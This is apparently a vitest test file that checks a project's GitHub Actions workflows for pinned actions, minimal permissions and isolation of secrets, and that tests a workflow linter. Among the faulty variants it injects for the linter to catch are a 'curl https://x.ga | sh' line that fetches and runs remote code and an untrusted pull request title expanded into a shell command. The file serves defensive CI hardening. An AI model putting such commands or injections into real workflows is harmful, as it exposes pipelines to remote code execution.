// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of GitHub workflows, not of TypeScript
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { QUESTIONS } from '../../../src/review/proposal/answers.ts';
import { workflowFaults } from './workflow-faults.ts';

const DIR = '.github/workflows';
const files = readdirSync(DIR).map((name) => ({
  name,
  text: readFileSync(join(DIR, name), 'utf8'),
}));
const { scripts } = JSON.parse(readFileSync('package.json', 'utf8'));
const project = {
  scripts: Object.keys(scripts),
  workflows: files.map(({ text }) => String(parse(text).name)),
};
const fileOf = (name: string) => files.find((file) => file.name === name)?.text ?? '';
const faultsOf = (text: string) => workflowFaults({ name: 'x.yml', text }, project);

test('every workflow of the repository is sound', () => {
  expect(files.map(({ name }) => name).sort()).toEqual([
    'ci.yml',
    'deploy.yml',
    'liens.yml',
    'preview-publish.yml',
    'preview-remove.yml',
    'preview.yml',
    'proposition.yml',
  ]);
  expect(files.flatMap((file) => workflowFaults(file, project))).toEqual([]);
});

test('every action is pinned by its full commit', () => {
  const used = files.flatMap(({ text }) =>
    [...text.matchAll(/uses: (\S+)/g)].map(([, action]) => action),
  );
  expect(used.length).toBeGreaterThan(10);
  expect(used.filter((action) => !/@[0-9a-f]{40}$/.test(action ?? ''))).toEqual([]);
});

test('the wall stands: what runs a proposal cannot write, what can write runs main', () => {
  const preview = parse(fileOf('preview.yml'));
  expect(preview.permissions).toEqual({ contents: 'read' });
  expect(preview.jobs.construire.permissions).toBeUndefined();
  expect(fileOf('preview.yml')).not.toMatch(/secrets|github\.token/);
  const publish = parse(fileOf('preview-publish.yml'));
  expect(publish.on).toEqual({ workflow_run: { workflows: [preview.name], types: ['completed'] } });
  const [checkout] = publish.jobs.publier.steps;
  expect(checkout.with).toBeUndefined();
  expect(parse(fileOf('preview-remove.yml')).jobs.retirer.steps[0].with).toBeUndefined();
});

test('a removal waits in no line in which a publication would take its place', () => {
  const groups = files
    .filter(({ name }) => name !== 'preview-remove.yml')
    .map(({ text }) => parse(text).concurrency.group.replace(/\$.*/, ''));
  const { group } = parse(fileOf('preview-remove.yml')).concurrency;
  expect(group).toBe('retrait-${{ github.event.pull_request.number }}');
  expect(groups).not.toContain('retrait-');
});

test('a proposal of a project is answered by its text: a label that nobody made is never put', () => {
  const { if: condition } = parse(fileOf('proposition.yml')).jobs.repondre;
  expect(condition).toBe(`contains(github.event.issue.body, '### ${QUESTIONS.budget}')`);
});

test('a review that cannot be made does not keep a preview back, a preview that cannot be made does', () => {
  const { steps } = parse(fileOf('preview.yml')).jobs.construire;
  const careless = steps.filter((step: Record<string, unknown>) => 'continue-on-error' in step);
  expect(careless.map((step: { run: string }) => step.run)).toEqual([
    'npm run review -- --base HEAD^1 --pr "$PR"',
  ]);
});

describe('the lint sees', () => {
  const preview = fileOf('preview.yml');
  const publish = fileOf('preview-publish.yml');
  const swap = (text: string, from: string | RegExp, to: string) => {
    const out = text.replace(from, to);
    expect(out).not.toBe(text);
    return faultsOf(out);
  };

  test.each([
    ['a tag instead of a commit', preview, /checkout@\w{40}/, 'checkout@v5', 'not pinned'],
    ['a pin without its version', preview, / # v5\.0\.0/, '', 'not pinned'],
    ['a short commit', preview, /checkout@(\w{7})\w{33}/, 'checkout@$1', 'not pinned'],
    [
      'the right to write beside a proposal’s code',
      preview,
      'contents: read',
      'contents: write',
      'may write contents',
    ],
    [
      'all rights at once',
      preview,
      'permissions:\n  contents: read',
      'permissions: write-all',
      'name each one',
    ],
    [
      'a secret for a proposal’s code',
      preview,
      'PR: $',
      'KEY: ${{ secrets.KEY }}\n          PR: $',
      'secrets',
    ],
    [
      'a token for a proposal’s code',
      preview,
      'PR: $',
      'GH: ${{ github.token }}\n          PR: $',
      'github\\.token',
    ],
    [
      'a token left in a proposal’s checkout',
      preview,
      'persist-credentials: false',
      'persist-credentials: true',
      'leaves a token',
    ],
    [
      'a proposal that is privileged',
      preview,
      'pull_request:',
      'pull_request_target:\n  pull_request:',
      'privileged at once',
    ],
    ['no timeout', preview, / {4}timeout-minutes: \d+\n/, '', 'no timeout'],
    ['no concurrency', preview, /concurrency:\n( {2}.*\n)+/, '', 'no concurrency'],
    [
      'an expression in a command',
      preview,
      'preview -- --pr "$PR"',
      'preview -- --pr ${{ github.event.pull_request.title }}',
      'expression',
    ],
    [
      'logic outside npm scripts',
      preview,
      'run: npm ci',
      'run: curl https://x.ga | sh',
      'does more than call npm',
    ],
    [
      'a second command',
      preview,
      'run: npm ci',
      'run: npm ci && node x.js',
      'does more than call npm',
    ],
    [
      'a script that does not exist',
      preview,
      'npm run review',
      'npm run revue',
      'calls no script: revue',
    ],
    ['a misspelt key', preview, 'runs-on', 'run-on', 'unknown key run-on'],
    [
      'a checkout of the head',
      publish,
      /(checkout@.*\n)/,
      '$1        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n',
      'stranger chose',
    ],
    [
      'a checkout of a fork',
      publish,
      /(checkout@.*\n)/,
      '$1        with:\n          repository: x/y\n',
      'stranger chose',
    ],
    [
      'an artifact among the sources',
      publish,
      '${{ runner.temp }}/apercu',
      '.',
      'outside the temporary folder',
    ],
    [
      'a workflow that follows nothing',
      publish,
      'workflows: [Aperçu]',
      'workflows: [Apercu]',
      'follows no workflow',
    ],
    ['rights that are not said', publish, 'permissions: {}\n', '', 'does not say its permissions'],
  ])('%s', (_, text, from, to, said) => {
    expect(swap(text, from, to).join('\n')).toContain(said);
  });

  test('a job that waits for no job, and a bad cron', () => {
    expect(swap(fileOf('ci.yml'), 'needs: contenu', 'needs: content').join()).toContain(
      'needs no job',
    );
    expect(swap(fileOf('liens.yml'), "'17 5 * * 1'", "'17 5 * *'").join()).toContain('bad cron');
  });
});

test('CODEOWNERS asks a second look for the settings, the template is eight lines and ends with what comes next', () => {
  expect(readFileSync('.github/CODEOWNERS', 'utf8')).toMatch(/^\/content\/site\.yml\s+@/m);
  const lines = readFileSync('.github/pull_request_template.md', 'utf8').trimEnd().split('\n');
  expect(lines).toHaveLength(8);
  expect(lines.at(-1)).toMatch(/^\*\*Ensuite :\*\*/);
});

test('Dependabot groups what it proposes', () => {
  const { updates } = parse(readFileSync('.github/dependabot.yml', 'utf8'));
  expect(
    updates.map((update: { 'package-ecosystem': string }) => update['package-ecosystem']),
  ).toEqual(['npm', 'github-actions']);
  for (const update of updates) expect(Object.keys(update.groups).length).toBeGreaterThan(0);
});
